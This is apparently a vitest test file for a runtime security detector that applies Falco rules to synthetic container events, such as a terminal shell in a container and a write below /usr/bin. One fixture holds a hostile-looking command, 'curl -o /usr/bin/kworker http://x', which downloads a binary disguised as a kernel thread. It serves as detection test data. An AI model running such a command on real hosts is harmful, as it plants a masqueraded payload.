import { describe, expect, it } from 'vitest';
import { join } from 'node:path';
import { requireDataset } from '../../../src/util/datasets.js';
import { loadRuleFiles, RuleReader } from '../../../src/detect/rules/loader.js';
import { RuleEngine } from '../../../src/detect/rules/engine.js';
import { createRulesDetector } from '../../../src/detect/rules/detector.js';
import { EventIds, nowNs, type VigieEvent } from '../../../src/model/event.js';
import { alertSchema } from '../../../src/model/alert.js';

const ids = new EventIds();

const dir = requireDataset('falco-rules');

/** The event Vigie's live sensor emits when `docker exec -it <c> sh` starts a shell. */
function shellInContainer(tty: number | undefined): VigieEvent {
  return {
    id: ids.next(),
    kind: 'process',
    ts: nowNs(),
    source: 'bpftrace',
    host: 'node-1',
    container: {
      id: '3f2a9c1b7d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4',
      name: 'web',
      image: 'nginx:1.25',
    },
    proc: {
      pid: 4242,
      ppid: 4200,
      name: 'sh',
      exe: '/bin/sh',
      cmdline: 'sh',
      pname: 'runc',
      anames: ['runc', 'containerd-shim'],
      uid: 0,
      tty,
    },
  };
}

describe.skipIf(!dir)('syscall rules on Vigie live events', () => {
  // One reader for the loads below: falco_rules.yaml is parsed once.
  const reader = new RuleReader();
  const loaded = dir ? loadRuleFiles([join(dir, 'falco_rules.yaml')], { reader }) : undefined;

  it('a shell with a terminal in a container fires "Terminal shell in container"', () => {
    const engine = new RuleEngine(loaded!, { ruleMatching: 'all' });
    const alerts = engine.alerts(shellInContainer(34816), 'test-host');
    const names = alerts.map((a) => a.rule);
    expect(names).toContain('Terminal shell in container');
    const a = alerts.find((x) => x.rule === 'Terminal shell in container')!;
    expect(alertSchema.safeParse(a).success).toBe(true);
    expect(a.priority).toBe('Notice');
    expect(a.source).toBe('syscall');
    expect(a.output).toMatch(/A shell was spawned in a container with an attached terminal/);
    expect(a.output_fields['proc.name']).toBe('sh');
    expect(a.output_fields['proc.pname']).toBe('runc');
    expect(a.output_fields['evt.type']).toBe('execve');
    expect(a.output_fields['user.loginuid']).toBe(null); // a field Vigie cannot provide renders <NA>
    expect(a.tags).toEqual([...a.tags].sort());
    expect(a.vigie.mitre.some((m) => m.technique === 'T1059')).toBe(true);
    expect(a.vigie.entities.container?.id).toMatch(/^3f2a9c1b7d4e/);
  });

  it('without a terminal it does not fire, and a host shell does not either', () => {
    const engine = new RuleEngine(loaded!, { ruleMatching: 'all' });
    expect(engine.alerts(shellInContainer(0), 'h').map((a) => a.rule)).not.toContain(
      'Terminal shell in container',
    );
    const host = shellInContainer(34816);
    delete host.container;
    expect(engine.alerts(host, 'h').map((a) => a.rule)).not.toContain('Terminal shell in container');
  });

  it('the index only offers exec rules to exec events', () => {
    const engine = new RuleEngine(loaded!);
    const execRules = engine.candidates(shellInContainer(1));
    expect(execRules.length).toBeGreaterThan(0);
    expect(execRules.length).toBeLessThan(engine.activeRules().filter((r) => r.source === 'syscall').length);
    expect(execRules.every((r) => r.keys === null || r.keys.has('execve'))).toBe(true);
  });

  it('an open for writing below /usr/bin maps onto the open_write rules', () => {
    const all = loadRuleFiles(
      ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'].map((f) =>
        join(dir!, f),
      ),
      { reader },
    );
    const engine = new RuleEngine(all, { ruleMatching: 'all' });
    const ev: VigieEvent = {
      id: ids.next(),
      kind: 'file',
      ts: nowNs(),
      source: 'bpftrace',
      container: { id: 'abcdef0123456789', image: 'alpine:3' },
      proc: {
        pid: 10,
        name: 'curl',
        exe: '/usr/bin/curl',
        cmdline: 'curl -o /usr/bin/kworker http://x',
        pname: 'sh',
        uid: 0,
      },
      file: { op: 'open', path: '/usr/bin/kworker', flags: 0o1101, write: true, ret: 3 },
    };
    const alerts = engine.alerts(ev, 'h');
    expect(alerts.map((a) => a.rule)).toContain('Write below binary dir');
    expect(alerts.find((a) => a.rule === 'Write below binary dir')!.output_fields['fd.name']).toBe(
      '/usr/bin/kworker',
    );
    // The same open for reading does not match.
    const read = {
      ...ev,
      id: ids.next(),
      file: { op: 'open', path: '/usr/bin/kworker', flags: 0, write: false, ret: 3 },
    };
    expect(engine.alerts(read, 'h').map((a) => a.rule)).not.toContain('Write below binary dir');
  });
});

describe.skipIf(!dir)('the rules detector', () => {
  it('loads configured files and emits alert inputs for live events', () => {
    const d = createRulesDetector({
      db: undefined as never,
      hostname: 'h',
      config: { rules: { files: [join(dir!, 'falco_rules.yaml')], matching: 'all' } },
    })!;
    expect(d.kinds).toEqual(expect.arrayContaining(['process', 'file', 'network', 'k8s_audit']));
    const got: string[] = [];
    d.onEvent(shellInContainer(34816), (a) => got.push(`${a.rule}/${a.category}/${a.detector}`));
    expect(got).toContain('Terminal shell in container/attack/rules');
    expect(d.stats?.()).toMatchObject({ events: 1, activeRules: 15 });
  });

  it('is off without rule files', () => {
    expect(createRulesDetector({ db: undefined as never, hostname: 'h', config: {} })).toBeUndefined();
  });

  it('takes its files from the configuration only, not from the environment', () => {
    const saved = process.env.VIGIE_RULES;
    process.env.VIGIE_RULES = join(dir!, 'falco_rules.yaml');
    try {
      expect(createRulesDetector({ db: undefined as never, hostname: 'h', config: {} })).toBeUndefined();
    } finally {
      if (saved === undefined) delete process.env.VIGIE_RULES;
      else process.env.VIGIE_RULES = saved;
    }
  });

  it('rejects an invalid configuration, naming the bad key', () => {
    const make = (rules: Record<string, unknown>) => () =>
      createRulesDetector({ db: undefined as never, hostname: 'h', config: { rules } });
    expect(make({ files: join(dir!, 'falco_rules.yaml') })).toThrow(/^rules detector config: files: /);
    expect(make({ files: [join(dir!, 'falco_rules.yaml')], matching: 'any' })).toThrow(
      /^rules detector config: matching: /,
    );
    expect(make({ file: [join(dir!, 'falco_rules.yaml')] })).toThrow(/^rules detector config: .*file/);
  });
});
